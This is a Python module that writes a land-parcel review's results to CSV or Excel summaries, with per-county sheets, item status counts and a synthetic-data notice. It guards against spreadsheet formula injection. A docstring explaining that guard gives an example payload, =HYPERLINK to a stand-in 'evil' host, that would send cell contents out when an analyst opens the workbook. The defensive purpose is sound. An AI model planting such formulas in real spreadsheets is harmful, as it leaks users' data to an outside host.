"""A batch review as an analyst's summary table: ``lantu review … --summary summary.xlsx|.csv``.

One row per parcel (编号, 名称, 类型, 县区, 面积 亩/公顷, 结论, 不通过项, 有条件项, 新增建设用地指标,
占补平衡), then in the workbook a sheet per county with its totals and a sheet counting each
item's statuses. Chinese headers, the header row frozen, number formats set; openpyxl is
imported only when a workbook is written. Ids and names are typed by users, so text is never left
for a spreadsheet to read as a formula: a CSV field goes through :func:`geo.io.tables.csv_cell`, a
workbook row through :func:`append_row`.
"""

from __future__ import annotations

import csv
import io
from collections import Counter
from collections.abc import Iterable
from pathlib import Path
from typing import TYPE_CHECKING, Any

from geo.crs import Area
from geo.errors import FormatError
from geo.io.tables import csv_cell
from geo.report_model import SYNTHETIC_MARK
from geo.review.result import ParcelResult, ReviewResult
from geo.vocabulary import STATUS_ZH, VERDICT_ZH, project_types

if TYPE_CHECKING:
    from openpyxl.worksheet.worksheet import Worksheet

# (key, header, number format or None)
PARCEL_COLUMNS: list[tuple[str, str, str | None]] = [
    ("id", "地块编号", None),
    ("name", "项目名称", None),
    ("project_type", "项目类型", None),
    ("county_code", "县区代码", None),
    ("county", "所在县区", None),
    ("area_mu", "面积（亩）", "#,##0.00"),
    ("area_ha", "面积（公顷）", "#,##0.0000"),
    ("verdict", "审查结论", None),
    ("failed", "不通过项", None),
    ("warned", "有条件项", None),
    ("unreviewed", "未审查项", None),
    ("new_quota_mu", "新增建设用地指标（亩）", "#,##0.00"),
    ("new_quota_m2", "新增建设用地指标（m²）", "#,##0.00"),
    ("compensation_mu", "耕地占补平衡（亩）", "#,##0.00"),
    ("compensation_m2", "耕地占补平衡（m²）", "#,##0.00"),
]
SUMMED = ("area_mu", "area_ha", "new_quota_mu", "new_quota_m2", "compensation_mu", "compensation_m2")
NO_COUNTY = "未落入县区"
SUMMARY_SUFFIXES = (".xlsx", ".csv")


def summary_rows(result: ReviewResult) -> list[dict[str, Any]]:
    """One row per parcel, keyed as ``PARCEL_COLUMNS``; quota figures are ``None`` without a land-use layer, and
    for a parcel refused or not wholly reviewed, for which the papers set none (不核定) and the ledger reserves none."""
    types = project_types()
    return [_row(p, types) for p in result.parcels]


def _row(p: ParcelResult, types: dict[str, Any]) -> dict[str, Any]:
    figures = p.land_figures()
    new_m2, comp_m2 = figures["new_construction_quota_m2"], figures["compensation_m2"]
    return {
        "id": p.id,
        "name": p.name,
        "project_type": types[p.project_type].name_zh if p.project_type in types else p.project_type,
        "county_code": p.county.code if p.county else None,
        "county": p.county.name if p.county else NO_COUNTY,
        "area_mu": round(p.area_mu, 2),  # as geo.crs.Area writes them: 亩 to 2 decimals, 公顷 to 4 (one m²)
        "area_ha": round(p.area_ha, 4),
        "verdict": VERDICT_ZH[p.verdict],
        # items apart by "；": an item's name may hold "、" (林地、草地、湿地)
        "failed": "；".join(i.name_zh for i in p.items if i.status == "fail"),
        "warned": "；".join(i.name_zh for i in p.items if i.status == "warn"),
        "unreviewed": "；".join(i.name_zh for i in p.items if i.status == "missing_layer"),
        "new_quota_mu": None if new_m2 is None else Area(new_m2).rounded[2],
        "new_quota_m2": None if new_m2 is None else round(new_m2, 2),
        "compensation_mu": None if comp_m2 is None else Area(comp_m2).rounded[2],
        "compensation_m2": None if comp_m2 is None else round(comp_m2, 2),
    }


def item_counts(result: ReviewResult) -> list[dict[str, Any]]:
    """Per review item (in the profile's order): how many parcels had each status."""
    counts: dict[str, Counter[str]] = {}
    names: dict[str, str] = {}
    for p in result.parcels:
        for i in p.items:
            counts.setdefault(i.code, Counter())[i.status] += 1
            names[i.code] = i.name_zh
    return [
        {"code": c, "name": names[c], **{s: counts[c][s] for s in STATUS_ZH}, "total": sum(counts[c].values())}
        for c in counts
    ]


def summary_path(path: str | Path) -> Path:
    """``path`` if it names a summary format (checked before a long review starts), else a FormatError."""
    path = Path(path)
    if path.suffix.lower() not in SUMMARY_SUFFIXES:
        raise FormatError(
            f"summary file {path.name}: use .xlsx or .csv", f"汇总表 {path.name}：请使用 .xlsx 或 .csv 文件"
        )
    return path


def write_summary(result: ReviewResult, path: str | Path) -> Path:
    """Write the summary as ``.xlsx`` (parcels, a sheet per county, item counts) or ``.csv`` (the parcels)."""
    path = summary_path(path)
    suffix = path.suffix.lower()
    path.parent.mkdir(parents=True, exist_ok=True)
    if suffix == ".csv":
        path.write_text(summary_csv(result), encoding="utf-8-sig")  # the BOM lets Excel read the Chinese
    else:
        path.write_bytes(summary_xlsx(result))
    return path


SYNTHETIC_COLUMN = "数据说明"


def summary_csv(result: ReviewResult) -> str:
    """The parcels' rows; a review on the demo blueprint ends each row with the synthetic mark, in a column of
    its own (a CSV has no sheet to say it on, and a row copied elsewhere keeps it)."""
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\n")
    mark = [SYNTHETIC_MARK] if result.synthetic else []
    writer.writerow([header for _, header, _ in PARCEL_COLUMNS] + ([SYNTHETIC_COLUMN] if mark else []))
    for row in summary_rows(result):
        writer.writerow([csv_cell("" if row[key] is None else row[key]) for key, _, _ in PARCEL_COLUMNS] + mark)
    return out.getvalue()


def append_row(ws: Worksheet, values: Iterable[Any]) -> None:
    """``ws.append(values)``, with every text cell a plain string cell (``data_type "s"``), its value unchanged.

    Why: openpyxl stores text that starts with ``=`` as a formula (``=HYPERLINK("http://evil/?"&A3,"详情")``
    would run when the analyst opens the workbook) and text such as ``#N/A`` as an error; parcel ids and names
    are typed by users. A string cell is text to Excel whatever its first character (``= + - @``, TAB, CR:
    OWASP's list), so unlike a CSV it needs no leading quote and the value reads back exactly as typed.
    Numbers, negative ones included, are not text and stay numbers.
    """
    ws.append(list(values))
    for cell in ws[ws.max_row]:
        if isinstance(cell.value, str):
            cell.data_type = "s"


def summary_xlsx(result: ReviewResult) -> bytes:
    from openpyxl import Workbook
    from openpyxl.styles import Font, PatternFill
    from openpyxl.utils import get_column_letter

    bold = Font(bold=True)
    fill = PatternFill("solid", fgColor="DDDDDD")

    def sheet(ws: Worksheet, columns: list[tuple[str, str, str | None]], rows: list[dict[str, Any]]) -> None:
        append_row(ws, [header for _, header, _ in columns])
        for cell in ws[1]:
            cell.font, cell.fill = bold, fill
        for row in rows:
            append_row(ws, [row.get(key) for key, _, _ in columns])
        for j, (key, header, fmt) in enumerate(columns, start=1):
            letter = get_column_letter(j)
            width = max([len(str(header)) * 2, *(len(str(r.get(key) or "")) * 2 for r in rows)], default=8)
            ws.column_dimensions[letter].width = min(max(width, 8), 60)
            if fmt:
                for (cell,) in ws.iter_rows(min_row=2, min_col=j, max_col=j):
                    cell.number_format = fmt
        ws.freeze_panes = "A2"

    rows = summary_rows(result)
    book = Workbook()
    first = book.active
    assert first is not None  # a new workbook has its one sheet
    first.title = "地块清单"
    sheet(first, PARCEL_COLUMNS, rows)
    by_county: dict[str, list[dict[str, Any]]] = {}
    for row in rows:
        key = f"{row['county']}（{row['county_code']}）" if row["county_code"] else NO_COUNTY
        by_county.setdefault(key, []).append(row)
    totals = []
    for key, members in by_county.items():
        total = {k: round(sum(r[k] or 0.0 for r in members), 4) for k in SUMMED}
        total |= {"id": "合计", "name": f"{len(members)} 个地块"}
        totals.append({"county": key, "parcels": len(members), **_verdict_counts(members), **total})
        sheet(book.create_sheet(_sheet_name(key)), PARCEL_COLUMNS, [*members, total])
        ws = book[_sheet_name(key)]
        for cell in ws[ws.max_row]:
            cell.font = bold
    overview = book.create_sheet("县区汇总", 1)
    verdict_columns: list[tuple[str, str, str | None]] = [(v, zh, "0") for v, zh in VERDICT_ZH.items()]
    sheet(
        overview,
        [("county", "县区", None), ("parcels", "地块数", "0"), *verdict_columns]
        + [c for c in PARCEL_COLUMNS if c[0] in SUMMED],
        totals,
    )
    counts = item_counts(result)
    sheet(
        book.create_sheet("审查项统计"),
        [("code", "审查项代码", None), ("name", "审查项", None)]
        + [(s, zh, "0") for s, zh in STATUS_ZH.items()]
        + [("total", "合计", "0")],
        counts,
    )
    if result.synthetic:  # reviewed against the demo blueprint: said on a sheet of its own, opened first
        note = book.create_sheet("示例说明", 0)
        append_row(note, [SYNTHETIC_MARK])
        append_row(note, ["本汇总的审查所依蓝图为示例蓝图，其管控图层为程序生成的合成数据，结论不得作为审批依据。"])
        append_row(note, ["Reviewed against the demo blueprint: its control layers are synthetic."])
        note["A1"].font = bold
        note.column_dimensions["A"].width = 100
        book.active = 0
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def _verdict_counts(rows: list[dict[str, Any]]) -> dict[str, int]:
    labels = Counter(r["verdict"] for r in rows)
    return {v: labels[zh] for v, zh in VERDICT_ZH.items()}


def _sheet_name(text: str) -> str:
    """An Excel sheet name: at most 31 characters, none of []:*?/\\."""
    return "".join("_" if ch in "[]:*?/\\" else ch for ch in text)[:31]
